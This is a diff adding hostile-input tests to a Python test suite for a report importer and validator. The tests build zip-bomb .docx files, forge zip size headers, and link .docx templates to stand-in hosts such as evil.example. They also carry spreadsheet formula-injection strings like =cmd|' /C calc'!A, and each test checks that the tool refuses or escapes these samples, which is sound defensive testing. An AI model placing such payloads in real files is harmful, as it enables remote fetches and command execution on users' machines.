@@ -1,18 +1,27 @@
-"""Hostile data, round three: what a careless or malicious contributor sends in a pull request. File
-names that would forge CI output, formula text, ids with a newline, data that crashed the validator,
-reports that would keep the importer busy for minutes, make variables that would run commands, a PDF
-that runs JavaScript, symbolic links and nested folders, and characters that change what readers see.
-Each is a clear `file:line:col CODE 中文 / English` problem (or a refusal), never a traceback."""
+"""Hostile input: what a careless or malicious contributor sends in a pull request, and what a hostile
+report or environment gives the tools. Rounds three and four: file names that would forge CI output,
+formula text, ids with a newline, data that crashed the validator, reports that would keep the importer
+busy for minutes or unpack to gigabytes, make variables that would run commands, PDFs and .docx files that
+run or fetch something, symbolic links and nested folders, characters that change what readers see,
+numbers in forms a reader would not read the same way, addresses that would reach every page, releases
+that go backwards. Each is a clear `file:line:col CODE 中文 / English` problem (or a refusal), never a
+traceback; each round-four test says in its docstring which limit it meets (all are listed in
+docs/fields.md "限制")."""
 
 from __future__ import annotations
 
+import csv
 import io
 import os
 import re
+import struct
 import subprocess
 import sys
 import time
+import tracemalloc
 import zipfile
+import zlib
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
@@ -20,6 +29,8 @@ import pytest
 from macros.data import schema
 from macros.data.loader import check, load_catalog
 from macros.data.problems import DataError
+from macros.drafts import documents
+from macros.drafts.figures import find
 from scripts import import_source, validate
 from tests.conftest import ROOT
 from tests.test_validation import TODAY
@@ -611,3 +622,265 @@ def test_a_quote_that_differs_only_in_unicode_form_says_so(fixture_data, quote: 
     with_observations(fixture_data.data, f"2024,95,,,,,test-source,{quote},", header="period,value,flag,qualifier,as_of,breakdown,source,quote,note")
     found = [p for p in problems_of(fixture_data.data) if p.code in ("quote-unicode-form", "quote-not-in-source")]
     assert [p.code for p in found] == ["quote-unicode-form"] and "请从存档原文中直接复制" in found[0].zh
+
+
+# 4. a .docx archive that fetches from outside when opened
+
+
+def docx_linking(target: str, kind: str = "attachedTemplate", mode: str = ' TargetMode="External"') -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as docx:
+        docx.writestr("[Content_Types].xml", "<Types/>")
+        docx.writestr("word/document.xml", "<w:document/>")
+        docx.writestr("word/_rels/settings.xml.rels", f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/></Relationships>')
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize(("target", "kind", "refuse"), [
+    ("file:///\\\\evil.example\\share\\t.dotm", "attachedTemplate", True),
+    ("\\\\evil.example\\share\\x.png", "image", True),
+    ("javascript:alert(1)", "hyperlink", True),
+    ("https://www.shanghe.gov.cn/", "hyperlink", False),
+])
+def test_an_archived_docx_that_links_outside_is_refused_at_validation(fixture_data, target: str, kind: str, refuse: bool) -> None:
+    """Limit: an archived .docx has no external relationship but hyperlinks to http(s) or mailto."""
+    import hashlib
+
+    data = fixture_data.data
+    archive = data / "sources" / "test-source.docx"
+    archive.write_bytes(docx_linking(target, kind))
+    source = data / "sources" / "test-source.yaml"
+    text = re.sub(r"archive: .*", "archive: test-source.docx", source.read_text(encoding="utf-8"))
+    source.write_text(re.sub(r"sha256: .*", f"sha256: {hashlib.sha256(archive.read_bytes()).hexdigest()}", text, count=1), encoding="utf-8")
+    found = [p for p in problems_of(fixture_data.data) if p.code == "docx-external-link"] if refuse else []
+    if refuse:
+        assert found[0].path == "data/sources/test-source.yaml" and f"{kind} → {target}" in found[0].zh
+    else:
+        load_catalog(data, today=TODAY)
+
+
+# 2, 4 and 5 for `make import`: a .docx that unpacks to gigabytes or lies about its sizes, a text of hundreds of
+# thousands of characters with no full stop, a .docx that fetches from another machine, quotes a spreadsheet would run
+
+
+MB = 1024 * 1024
+REPORT_LINES = ("商河县科技局2025年工作总结（测试用虚构文本）", "2025年，全县新增高新技术企业12家。")
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+RELS = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
+
+
+def report_docx(path: Path, parts: dict[str, bytes] | None = None, zeros: tuple[str, int] | None = None) -> Path:
+    """A small real report as a .docx (python-docx's own template), with ``parts`` added or replaced and
+    ``zeros`` (a part's name, a size) a part of that many zero bytes, written a megabyte at a time."""
+    import docx
+
+    document = docx.Document()
+    for line in REPORT_LINES:
+        document.add_paragraph(line)
+    buffer = io.BytesIO()
+    document.save(buffer)
+    parts = parts or {}
+    with zipfile.ZipFile(buffer) as original, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+        for info in original.infolist():
+            out.writestr(info.filename, parts.pop(info.filename, original.read(info)))
+        for name, data in parts.items():
+            out.writestr(name, data)
+        if zeros:
+            with out.open(zeros[0], "w") as part:
+                for _ in range(zeros[1] // MB):
+                    part.write(bytes(MB))
+    return path
+
+
+def refused(report: Path, data: Path, capsys: pytest.CaptureFixture[str]) -> str:
+    """The message of an import that must fail and write nothing."""
+    (data / "sources").mkdir(parents=True)
+    assert import_source.run(report, "hostile", data) == 1
+    err = capsys.readouterr().err
+    assert "没有写入任何文件" in err and "Traceback" not in err
+    assert [p.relative_to(data).as_posix() for p in data.rglob("*")] == ["sources"], "nothing written to data/"
+    return err
+
+
+# 1. a zip bomb in word/media/, and a part that lies about its size
+
+
+def test_a_docx_with_a_huge_picture_is_refused_before_it_is_unpacked(tmp_path: Path, capsys) -> None:
+    report = report_docx(tmp_path / "bomb.docx", zeros=("word/media/image1.png", 200 * MB))
+    assert report.stat().st_size < 2 * MB
+    err = refused(report, tmp_path / "data", capsys)
+    assert "解压后共 200 MB，超过 20 MB 的上限" in err and "word/media/image1.png" in err, err
+    assert "unpacks to more than 20 MB" in err
+
+
+def test_parts_that_together_unpack_beyond_the_limit_are_refused(tmp_path: Path, capsys) -> None:
+    report = report_docx(tmp_path / "many.docx", {f"word/media/image{n}.png": bytes(3 * MB) for n in range(8)})
+    assert "超过 20 MB 的上限" in refused(report, tmp_path / "data", capsys)
+
+
+def lying(path: Path, name: str, declared: int) -> None:
+    """Make ``name`` in the zip at ``path`` declare ``declared`` bytes (with the CRC of its first ``declared``
+    bytes, all zeros), in its local header and in the central directory: its stream still unpacks to all of it."""
+    raw = bytearray(path.read_bytes())
+    crc = zlib.crc32(bytes(declared))
+    encoded = name.encode()
+    for signature, crc_at, name_at in ((b"PK\x03\x04", 14, 30), (b"PK\x01\x02", 16, 46)):
+        at = raw.find(signature)
+        while raw[at + name_at : at + name_at + len(encoded)] != encoded:
+            at = raw.find(signature, at + 1)
+        struct.pack_into("<I", raw, at + crc_at, crc)
+        struct.pack_into("<I", raw, at + crc_at + 8, declared)  # the uncompressed size follows CRC and compressed size
+    path.write_bytes(bytes(raw))
+
+
+def test_a_part_that_understates_its_size_is_read_only_as_far_as_it_says(tmp_path: Path) -> None:
+    """A picture the document uses, declaring 1 KB but unpacking to 200 MB: it is read a megabyte at a
+    time and never past what it declares, so the import holds a few megabytes, not 200."""
+    picture = f'<Relationship Id="rIdBomb" Type="{REL}/image" Target="media/image1.png"/>'
+    import docx
+
+    buffer = io.BytesIO()
+    docx.Document().save(buffer)
+    with zipfile.ZipFile(buffer) as original:
+        rels = original.read("word/_rels/document.xml.rels").decode().replace("</Relationships>", picture + "</Relationships>")
+        types = original.read("[Content_Types].xml").decode().replace("</Types>", '<Default Extension="png" ContentType="image/png"/></Types>')
+    parts = {"word/_rels/document.xml.rels": rels.encode(), "[Content_Types].xml": types.encode()}
+    report = report_docx(tmp_path / "liar.docx", parts, zeros=("word/media/image1.png", 200 * MB))
+    lying(report, "word/media/image1.png", 1024)
+    with zipfile.ZipFile(report) as package:
+        assert package.getinfo("word/media/image1.png").file_size == 1024
+    tracemalloc.start()
+    try:
+        text = documents.read(report).text
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert "新增高新技术企业12家" in text
+    assert peak < 50 * MB, f"{peak // MB} MB held"
+
+
+def test_a_part_compressed_with_bzip2_is_refused(tmp_path: Path, capsys) -> None:
+    report = tmp_path / "bzip2.docx"
+    report_docx(tmp_path / "plain.docx")
+    with zipfile.ZipFile(tmp_path / "plain.docx") as original, zipfile.ZipFile(report, "w") as out:
+        for info in original.infolist():
+            out.writestr(info.filename, original.read(info), zipfile.ZIP_BZIP2 if info.filename == "word/document.xml" else zipfile.ZIP_DEFLATED)
+    assert "压缩方式" in refused(report, tmp_path / "data", capsys)
+
+
+# 2. a text with no full stop: the context of a figure is bounded, so matching is linear
+
+
+def no_full_stop(characters: int) -> str:
+    text = "商河县科技局2024年工作总结\n" + "".join(f"新增{n % 997 + 1}家，" for n in range(characters // 6))
+    return text[:characters]
+
+
+def test_a_figure_in_a_sentence_that_never_ends_is_matched_on_the_text_around_it() -> None:
+    text = no_full_stop(40_000)
+    figures = find(text, 2024)
+    assert len(figures) > 5000
+    assert max(len(f.sentence) for f in figures) <= 2 * 200 + 20, "a sentence is cut at its clauses, not the whole text"
+    assert all(f.sentence in text and f.clause in f.sentence and text[f.start : f.end] in f.clause for f in figures)
+
+
+def test_a_text_with_no_punctuation_at_all_gets_quotes_of_bounded_length() -> None:
+    text = "商河县科技局2024年工作总结\n" + "".join(f"新增企业{n % 997 + 1}家" for n in range(4000))
+    figures = find(text, 2024)
+    assert len(figures) == 4000
+    assert max(len(f.clause) for f in figures) <= 2 * 200 + 20 and max(len(f.sentence) for f in figures) <= 2 * 200 + 20
+    assert all(text[f.clause_at : f.clause_at + len(f.clause)] == f.clause and f.clause.find(text[f.start : f.end]) >= 0 for f in figures)
+
+
+# 3. relationships that reach outside the file
+
+
+SETTINGS_RELS = "word/_rels/settings.xml.rels"
+
+
+def with_relationship(tmp_path: Path, rel_type: str, target: str, part: str = "word/_rels/document.xml.rels") -> Path:
+    import docx
+
+    buffer = io.BytesIO()
+    docx.Document().save(buffer)
+    relationship = f'<Relationship Id="rIdX" Type="{REL}/{rel_type}" Target="{target}" TargetMode="External"/>'
+    with zipfile.ZipFile(buffer) as original:
+        existing = original.read(part).decode() if part in original.namelist() else RELS.format("")
+    return report_docx(tmp_path / "linked.docx", {part: existing.replace("</Relationships>", relationship + "</Relationships>").encode()})
+
+
+@pytest.mark.parametrize(
+    ("rel_type", "target", "part", "shown"),
+    [
+        ("attachedTemplate", r"\\evil\share\t.dotm", SETTINGS_RELS, r"\\evil\share\t.dotm"),
+        ("attachedTemplate", "http://evil.example/t.dotm", SETTINGS_RELS, "http://evil.example/t.dotm"),
+        ("attachedTemplate", "file:///C:/t.dotm", "word/_rels/settings.xml.RELS", "file:///C:/t.dotm"),  # names are read regardless of case
+        ("image", r"\\evil\share\p.png", "word/_rels/document.xml.rels", r"\\evil\share\p.png"),
+        ("hyperlink", "file:///C:/Windows/System32/calc.exe", "word/_rels/document.xml.rels", "file:///C:/Windows/System32/calc.exe"),
+        ("hyperlink", "javascript:alert(1)", "word/_rels/document.xml.rels", "javascript:alert(1)"),
+        ("hyperlink", r"\\evil\share\x", "word/_rels/document.xml.rels", r"\\evil\share\x"),
+    ],
+)
+def test_a_docx_that_reaches_outside_is_refused(tmp_path: Path, capsys, rel_type: str, target: str, part: str, shown: str) -> None:
+    err = refused(with_relationship(tmp_path, rel_type, target, part), tmp_path / "data", capsys)
+    assert f"Word 文件含有指向外部的链接（{rel_type} → {shown}）" in err, err
+    assert "links outside itself" in err
+
+
+def test_a_refused_target_is_shown_escaped(tmp_path: Path, capsys) -> None:
+    err = refused(with_relationship(tmp_path, "attachedTemplate", r"\\evil\share&#10;::error file=README.md::ok&#x202E;gpj.exe", SETTINGS_RELS), tmp_path / "data", capsys)
+    assert r"\\evil\share\n::error file=README.md::ok\u202egpj.exe" in err
+    assert "\n::error" not in err and "\u202e" not in err
+
+
+@pytest.mark.parametrize("target", ["https://kjj.shanghe.gov.cn/", "http://example.com/a?b=1", "mailto:kjj@example.com"])
+def test_a_web_or_mail_hyperlink_may_stay(tmp_path: Path, target: str) -> None:
+    assert "新增高新技术企业12家" in documents.read(with_relationship(tmp_path, "hyperlink", target)).text
+
+
+# 4. cells a spreadsheet would run
+
+
+FORMULAS = (
+    "商河县科技局2025年工作总结（测试用虚构文本）\n"
+    "+cmd|' /C calc'!A新增高新技术企业12家。\n"
+    "全年技术合同，=cmd|' /C calc'!A 登记技术合同14项。\n"
+    "@cmd，-15家企业通过评价。\n"
+    "\t-认定16家。\n"
+)
+
+
+def test_no_cell_of_the_review_table_starts_a_formula(fixture_data, tmp_path: Path) -> None:
+    """A quote stays a verbatim slice holding its figure: it starts at the clause before, or else after
+    the characters that would make a spreadsheet run it."""
+    data = fixture_data.data
+    report = tmp_path / "formulas.txt"
+    report.write_text(FORMULAS, encoding="utf-8")
+    assert import_source.run(report, "formulas", data) == 0
+    rows = list(csv.DictReader(io.StringIO((data / "imports" / "formulas.csv").read_text(encoding="utf-8-sig"))))
+    for row in rows:
+        assert not [k for k, v in row.items() if schema.FORMULA_LIKE.match(v)], row
+        assert row["quote"] in FORMULAS and any(Decimal(t) == Decimal(row["value"]) for t in re.findall(r"[0-9]+", row["quote"])), row
+    assert {r["value"]: r["quote"] for r in rows} == {
+        "12": "cmd|' /C calc'!A新增高新技术企业12家",
+        "14": "全年技术合同，=cmd|' /C calc'!A 登记技术合同14项",
+        "15": "cmd，-15家企业通过评价",
+        "16": "认定16家",
+    }
+
+
+def test_a_title_that_starts_a_formula_is_left_to_staff(fixture_data, tmp_path: Path) -> None:
+    report = tmp_path / "title.txt"
+    report.write_text("=1+1商河县科技局2025年工作总结\n2025年，全县新增高新技术企业12家。\n", encoding="utf-8")
+    assert documents.title_and_year(report.read_text(encoding="utf-8")) == ("", 2025)
+
+
+def test_any_other_cell_that_would_start_a_formula_is_written_as_text() -> None:
+    from macros.drafts.matching import Known, Proposal
+    from macros.drafts.review import rows
+
+    (figure,) = find("2025年，全县新增高新技术企业12家。", 2025)
+    indicator = Known("high-tech", "=HYPERLINK(\"http://evil.example\")", "家", "", "year", False)
+    (row,) = rows([Proposal(figure, indicator, 0.9, note="@SUM(1)")], "formulas", "0" * 64)
+    assert row["indicator_title"] == "'=HYPERLINK(\"http://evil.example\")" and row["note"] == "'@SUM(1)"
+    assert not [k for k, v in row.items() if schema.FORMULA_LIKE.match(v)]
